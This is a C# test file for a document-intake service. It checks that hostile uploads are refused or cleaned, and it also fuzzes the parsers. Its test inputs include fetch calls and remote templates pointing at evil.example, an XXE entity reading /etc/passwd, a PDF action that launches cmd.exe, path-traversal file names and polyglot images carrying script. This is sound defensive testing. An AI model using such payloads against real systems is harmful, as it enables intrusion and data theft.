using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Mingtang.Documents.Content;
using Mingtang.Foundation.Data;
using Mingtang.Kernel;

namespace Mingtang.Documents.Intake;

/// <summary>Files made to harm: refused with a sentence and nothing changed, or kept so that no harm is in them.</summary>
public sealed class HostileTests : IDisposable
{
    private static readonly string[] Plain = ["关于开放图书馆的通知", "各单位：", "图书馆免费开放。"];

    /// <summary>Eight red points by eight.</summary>
    private const string Jpeg = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAX/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABQb/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCKALXj/9k=";

    private readonly DocumentHouse house = new();

    public static TheoryData<string> Refused =>
    [
        "macros", "remote template", "remote object", "packed program", "external entity", "bomb", "many entries", "broken zip", "empty", "pdf script", "pdf script hidden", "pdf launch", "pdf behind a head",
        "program", "png called docx", "zip without a paper", "program in a zip", "cut docx", "encrypted ole",
    ];

    [Theory, MemberData(nameof(Refused))]
    public async Task It_is_refused_with_a_sentence_and_nothing_is_changed(string kind)
    {
        var before = await State();
        var outcome = await Take(Made(kind), kind.StartsWith("pdf", StringComparison.Ordinal) ? "a.pdf" : "a.docx");
        var refusal = outcome.Refusals.ShouldHaveSingleItem();
        refusal.Field.ShouldBe("File");
        refusal.Message.ShouldMatch(@"\p{IsCJKUnifiedIdeographs}.*。$");
        (await State()).ShouldBe(before);
    }

    [Fact]
    public async Task What_a_page_would_run_is_left_out_and_the_original_is_bare_bytes()
    {
        var page = "<html><body><h1>关于开放图书馆的通知</h1><p>各单位：</p><script>fetch('http://evil.example')</script><svg><script>alert(1)</script></svg><object data='x'></object><p>开放。</p></body></html>";
        var paper = (await Take(Papers.Bytes(page), "通知.html")).Value;
        paper.File.MediaType.ShouldBe("application/octet-stream");
        paper.Body.ToHtml().ToString()!.ShouldNotContain("evil.example");
    }

    [Fact]
    public async Task An_external_picture_and_link_are_neither_fetched_nor_kept_as_pictures()
    {
        var relations = Papers.Relations(("rPic", "image", "http://evil.example/track.png"), ("r9", "hyperlink", "https://gov.example/"));
        var paper = (await Take(Papers.Docx(Plain, picture: Papers.Png, parts: ("word/_rels/document.xml.rels", relations)), "a.docx")).Value;
        paper.Body.Pictures().ShouldBeEmpty();
        string.Concat(paper.Notices).ShouldContain("1 幅图片未读入");
    }

    [Theory]
    [InlineData("../../../etc/passwd.txt", "passwd.txt")]
    [InlineData("C:\\temp\\\u202Etxt.docx\u0007.txt", "txt.docx.txt")]
    [InlineData("关于通知\r\nX-Evil: 1.txt", "关于通知X-Evil 1.txt")]
    public async Task A_name_neither_climbs_nor_pretends(string name, string kept) =>
        (await Take(Papers.Bytes(string.Join('\n', Plain)), name)).Value.File.Name.ShouldBe(kept);

    [Fact]
    public async Task A_picture_is_kept_without_what_stands_behind_or_beside_it()
    {
        var head = Papers.Png[..33];
        byte[] note = [0, 0, 0, 4, (byte)'t', (byte)'E', (byte)'X', (byte)'t', (byte)'e', (byte)'v', (byte)'i', (byte)'l', 0, 0, 0, 0];
        byte[] polyglot = [.. head, .. note, .. Papers.Png[33..], .. Papers.Bytes("<script>alert(1)</script>PK\u0003\u0004")];
        var paper = (await Take(Papers.Docx(Plain, picture: polyglot, alt: "图"), "a.docx")).Value;
        var hash = paper.Body.Pictures().ShouldHaveSingleItem().Hash;
        (await BytesOf(hash)).ShouldBe(Papers.Png);
    }

    [Fact]
    public async Task A_photograph_loses_its_place_and_keeps_how_it_was_held()
    {
        var plain = Convert.FromBase64String(Jpeg);
        byte[] exif =
        [
            .. Papers.Bytes("Exif\0\0"), (byte)'M', (byte)'M', 0, 42, 0, 0, 0, 8, 0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0, 0, 0, 0, 0, .. Papers.Bytes("GPS 31.03N 121.22E"),
        ];
        byte[] taken = [0xFF, 0xD8, 0xFF, 0xE1, 0, (byte)(exif.Length + 2), .. exif, .. plain[2..], .. Papers.Bytes("PK<script>")];
        var paper = (await Take(Papers.Docx(Plain, picture: taken, alt: "图"), "a.docx")).Value;
        var kept = await BytesOf(paper.Body.Pictures().ShouldHaveSingleItem().Hash);
        var words = Encoding.Latin1.GetString(kept);
        words.ShouldNotContain("GPS");
        words.ShouldNotContain("script");
        kept[^2..].ShouldBe([0xFF, 0xD9]);
        kept.AsSpan().IndexOf((byte[])[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]).ShouldBeGreaterThan(0);
    }

    [Theory]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")]
    [InlineData("GIF89a<script>alert(1)</script>")]
    [InlineData("\u0089PNG\r\n\u001a\n<script>")]
    public async Task What_is_no_picture_does_not_become_one(string content)
    {
        var paper = (await Take(Papers.Docx(Plain, picture: Encoding.Latin1.GetBytes(content)), "a.docx")).Value;
        paper.Body.Pictures().ShouldBeEmpty();
        string.Concat(paper.Notices).ShouldContain("没有收入");
    }

    [Fact]
    public void Mutated_files_are_read_or_refused_and_never_throw()
    {
        var random = new Random(20261128);
        (string Name, byte[] Content)[] whole =
        [
            ("a.docx", Papers.Docx(Papers.Notice, Papers.Box("附记"), Papers.P("眉"), Papers.Png, "图")), ("a.html", Papers.Bytes("<html><body><h1>关于通知</h1><table><tr><td rowspan=2>甲<td>乙</table><p>完</body>")),
            ("a.txt", Papers.Bytes(string.Join('\n', Papers.Notice))), ("a.md", Papers.Bytes("# 关于通知\n\n- 甲\n\n| 甲 | 乙 |\n|--|--|\n| 1 | 2 |\n")),
            ("a.rtf", Encoding.ASCII.GetBytes("{\\rtf1\\ansi\\u20851?\\u20110?\\par\\'b9\\'d8}")), ("a.xlsx", Papers.Xlsx("关于通知", "甲")),
        ];
        for (var round = 0; round < 120; round++)
            foreach (var (name, content) in whole.Where(one => one.Name != "a.rtf"))
            {
                var broken = Broken(content, random);
                var read = PaperReading.Read(broken, name);
                read.Refusals.ShouldAllBe(refusal => refusal.Message.Length > 5);
                if (read.TryGet(out var paper))
                    StructuredText.FromJson(paper.Body.ToJson()).ShouldBe(paper.Body);
            }
        for (var round = 0; round < 300; round++)
            Reading.FileWords.Of(Broken(whole[4].Content, random), "a.rtf").ShouldNotBeNull();
    }

    public void Dispose() => house.Dispose();

    private static byte[] Broken(byte[] whole, Random random)
    {
        var broken = whole.ToArray();
        for (var flips = random.Next(16); flips > 0; flips--)
            broken[random.Next(broken.Length)] = (byte)random.Next(256);
        return random.Next(4) == 0 ? broken[..random.Next(broken.Length)] : broken;
    }

    private static byte[] Made(string kind) => kind switch
    {
        "macros" => Papers.Docx(Plain, parts: ("word/vbaProject.bin", [1, 2, 3])),
        "remote template" => Papers.Docx(Plain, parts: ("word/_rels/settings.xml.rels", Papers.Relations(("r1", "attachedTemplate", "http://evil.example/t.dotm")))),
        "remote object" => Papers.Docx(Plain, parts: ("word/_rels/document.xml.rels", Papers.Relations(("r1", "oleObject", "http://evil.example/o.bin")))),
        "packed program" => Papers.Docx(Plain, parts: ("word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], 1, 0, .. Encoding.Unicode.GetBytes("Ole10Native")])),
        "external entity" => Papers.Docx(Plain, parts: ("word/document.xml", Papers.Bytes("<?xml version='1.0'?><!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w:document xmlns:w='urn:w'><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"))),
        "bomb" => Papers.Docx(Plain, parts: ("word/media/big.xml", new byte[200 << 20])),
        "many entries" => Papers.Zip([("[Content_Types].xml", Papers.Bytes("<Types/>")), .. Enumerable.Range(0, 12_000).Select(at => ($"word/{at}.txt", Array.Empty<byte>()))]),
        "broken zip" => [0x50, 0x4B, 0x03, 0x04, .. new byte[200]],
        "empty" => [],
        "pdf script" => Papers.Pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", Plain),
        "pdf script hidden" => Papers.Pdf("/OpenAction << /S /J#61vaScript /#4AS (app.alert) >>", Plain),
        "pdf launch" => Papers.Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>", Plain),
        "pdf behind a head" => [.. Papers.Bytes("GIF\n"), .. Papers.Pdf("/OpenAction << /S /JavaScript /JS (x) >>", Plain)],
        "program" => [(byte)'M', (byte)'Z', 0x90, 0, .. new byte[100]],
        "png called docx" => Papers.Png,
        "zip without a paper" => Papers.Zip([("a.png", Papers.Png)]),
        "program in a zip" => Papers.Zip([("a.txt", Papers.Bytes("甲")), ("附件/b.exe", Papers.Bytes("乙"))]),
        "cut docx" => Papers.Docx(Plain)[..300],
        _ => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Encoding.Unicode.GetBytes("EncryptedPackage\0")],
    };

    private Task<Outcome<IncomingPaper>> Take(byte[] content, string name) => house.With<TakeIn, Outcome<IncomingPaper>>(take => take.Read(content, name, house.Clerk));

    private Task<(int Papers, int Files, int Entries)> State() => house.House.Read(async services =>
    {
        var db = services.GetRequiredService<PlatformDb>();
        return (await db.Set<IncomingPaper>().CountAsync(), Directory.EnumerateFiles(house.House.DataFolder, "*", SearchOption.AllDirectories).Count(),
            await db.Database.SqlQuery<int>($"SELECT count(*) AS \"Value\" FROM foundation_audit_entries").SingleAsync());
    });

    private Task<byte[]> BytesOf(string hash) => house.House.Read(async services =>
    {
        await using var content = await services.GetRequiredService<Foundation.Files.IFileStore>().Open(hash);
        using var bytes = new MemoryStream();
        await content!.CopyToAsync(bytes);
        return bytes.ToArray();
    });
}
